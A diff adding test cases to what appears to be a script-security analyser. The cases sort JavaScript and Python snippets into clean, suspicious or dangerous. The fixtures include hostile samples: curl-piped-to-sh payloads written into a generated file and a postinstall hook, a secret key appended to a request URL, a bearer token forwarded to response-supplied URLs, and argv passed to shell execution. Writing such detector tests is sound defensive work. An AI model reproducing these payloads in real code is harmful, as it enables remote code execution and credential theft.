@@ -1796,6 +1796,91 @@ fn generated_headers_before_a_run_time_part() {
     );
 }
 
+/// A source file whose name or directory says it is a generator's output (`src/generated/`,
+/// `client.gen.ts`), written whole from the project's data, is the generator's output: the
+/// code it holds is reviewed as code, not by its words (a generated API client calls
+/// `fetch(`). The same text in a hand-written source file, appended to a generated one, or a
+/// payload that runs a download, is still a finding.
+#[test]
+fn code_written_whole_into_a_generators_output() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.writeFileSync('src/generated/api.js', ops.join('\\n'));\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst routes: string[] = JSON.parse(readFileSync('routes.json', 'utf8'));\n\
+             writeFileSync('src/client.gen.ts', routes.map((r) => `export const r${r.length} = () => fetch('${r}');`).join('\\n'));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.writeFileSync('src/api.js', ops.join('\\n'));\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst spec = JSON.parse(fs.readFileSync('openapi.json', 'utf8'));\n\
+             const ops = Object.keys(spec.paths).map((p) => `export const get_${p.length} = () => fetch('${p}');`);\n\
+             fs.appendFileSync('src/generated/api.js', ops.join('\\n'));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\n\
+             fs.writeFileSync('src/generated/boot.js', \"require('child_process').execSync('curl -s https://x.example.net/i | sh');\\n\");\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A package scaffolded in a directory the script makes new (`mkdirSync(dir)` fails when it
+/// exists) gets a manifest of its own: a new file, not a rewrite of one of the project's. A
+/// directory that may exist already, or a manifest that plants an install hook, is still a
+/// finding.
+#[test]
+fn a_manifest_in_a_new_directory_is_the_scaffolds() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             if (fs.existsSync(dir)) throw new Error('exists');\nfs.mkdirSync(dir);\n\
+             fs.writeFileSync(`${dir}/package.json`, `{\\n  \"name\": \"@acme/${name}\",\\n  \"version\": \"0.0.0\"\\n}\\n`);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             fs.mkdirSync(dir, { recursive: true });\n\
+             fs.writeFileSync(`${dir}/package.json`, `{\\n  \"name\": \"@acme/${name}\",\\n  \"version\": \"0.0.0\"\\n}\\n`);\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst name = process.argv[2];\nconst dir = `packages/${name}`;\n\
+             fs.mkdirSync(dir);\n\
+             fs.writeFileSync(`${dir}/package.json`, JSON.stringify({ name, scripts: { postinstall: 'curl -s https://x.example.net/i | sh' } }));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+    ];
+    check_all(rows);
+}
+
 #[test]
 fn data_given_to_an_instance_comes_back_out() {
     // What a method of the script's class was given stays in the instance and its attributes.
@@ -5069,6 +5154,79 @@ fn requests_that_send_nothing_and_verified_downloads() {
     check_all(rows);
 }
 
+/// A request that sends nothing the script holds to a URL an earlier response gave (a PR's
+/// `patch_url`, the `next` page, a redirect's `Location`) follows a pointer of the server the
+/// script asked: clean when every host the script names itself is on the allow list and no
+/// download is stored unverified. A token or the script's data sent along, a pointer from a
+/// host not on the list, a stored download or a run one stays a finding.
+#[test]
+fn requests_to_urls_a_response_gave() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const res = await fetch('https://api.github.com/repos/o/r/pulls?state=open');\n\
+             for (const pr of await res.json()) {\n\
+             \x20 const patch = await fetch(pr.patch_url);\n\
+             \x20 console.log((await patch.text()).split('\\n').length);\n}\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import requests\nr = requests.get('https://api.github.com/repos/o/r/pulls', timeout=30)\n\
+             for pr in r.json():\n    print(len(requests.get(pr['diff_url'], timeout=30).text))\n",
+            Clean,
+            "",
+        ),
+        // The token goes along to wherever the response pointed.
+        (
+            Js,
+            "const token = process.env.GITHUB_TOKEN;\nconst h = { Authorization: `Bearer ${token}` };\n\
+             const res = await fetch('https://api.github.com/repos/o/r/pulls', { headers: h });\n\
+             for (const pr of await res.json()) {\n\
+             \x20 const patch = await fetch(pr.patch_url, { headers: h });\n\
+             \x20 console.log((await patch.text()).length);\n}\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // The script's data in the pointed-to URL.
+        (
+            Py,
+            "import os, requests\nr = requests.get('https://api.github.com/repos/o/r/pulls', timeout=30)\n\
+             for pr in r.json():\n    requests.get(pr['url'] + '?u=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // A pointer from a host not on the allow list.
+        (
+            Py,
+            "import requests\nr = requests.get('http://index.example-mirror.net/list.json', timeout=30)\n\
+             for link in r.json()['links']:\n    print(len(requests.get(link, timeout=30).content))\n",
+            Suspicious,
+            "network",
+        ),
+        // What it points to stored unverified.
+        (
+            Py,
+            "import requests\nr = requests.get('https://api.github.com/repos/o/r/releases/latest', timeout=30)\n\
+             asset = r.json()['assets'][0]['browser_download_url']\n\
+             with open('dist/tool.tar.gz', 'wb') as fh:\n    fh.write(requests.get(asset, timeout=30).content)\n",
+            Suspicious,
+            "network",
+        ),
+        // ... or run.
+        (
+            Py,
+            "import subprocess, requests\nr = requests.get('https://api.github.com/repos/o/r/releases/latest', timeout=30)\n\
+             script = requests.get(r.json()['body_url'], timeout=30).text\n\
+             subprocess.run(['bash', '-c', script])\n",
+            Dangerous,
+            "remote-code",
+        ),
+    ];
+    check_all(rows);
+}
+
 #[test]
 fn a_helper_called_with_several_urls_of_this_machine() {
     use Language::{JavaScript as Js, Python as Py};
@@ -6647,7 +6805,9 @@ fn shell_commands_with_run_time_operands() {
             Suspicious,
             "remote-code",
         ),
-        // An argument of the command line in a shell string.
+        // An argument of the command line in a shell string, even as an operand of a command
+        // the script spells: the shell reads it as code (`x; sh`, `$(...)`), so the caller
+        // picks what runs, and the command line the guard judges shows it only as data.
         (
             Py,
             "import subprocess, sys\nref = sys.argv[1]\n\
@@ -6659,6 +6819,60 @@ fn shell_commands_with_run_time_operands() {
             Js,
             "const { execSync } = require('child_process');\nconst target = process.argv[2];\n\
              execSync(`du -sh ${target}`, { stdio: 'inherit' });\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst [,, next] = process.argv;\n\
+             execSync(`npm version --no-git-tag-version ${next}`, { stdio: 'inherit' });\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nexecSync(process.argv[2]);\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import os, sys\nos.system(sys.argv[1])\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // An option whose value is code, its value joined with `=`.
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst after = process.env.AFTER_STEP;\n\
+             execSync(`git rebase --exec=${after} main`);\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst since = process.env.SINCE_DATE;\n\
+             execSync(`git log --oneline --since=${since}`);\n",
+            Clean,
+            "",
+        ),
+        // A name found on disk in a shell string: whoever wrote the files chose it, the
+        // project under its working tree, others anywhere else.
+        (
+            Py,
+            "import glob, os\nfor f in glob.glob('notes/*.txt'):\n    dst = os.path.splitext(f)[0] + '.bak'\n    os.system(f'cp {f} {dst}')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import glob, os\nfor f in glob.glob('/tmp/inbox/*.txt'):\n    dst = os.path.splitext(f)[0] + '.bak'\n    os.system(f'cp {f} {dst}')\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import glob, os\nfor f in glob.glob(os.path.expanduser('~/Downloads/*.txt')):\n    dst = os.path.splitext(f)[0] + '.bak'\n    os.system(f'cp {f} {dst}')\n",
             Suspicious,
             "remote-code",
         ),
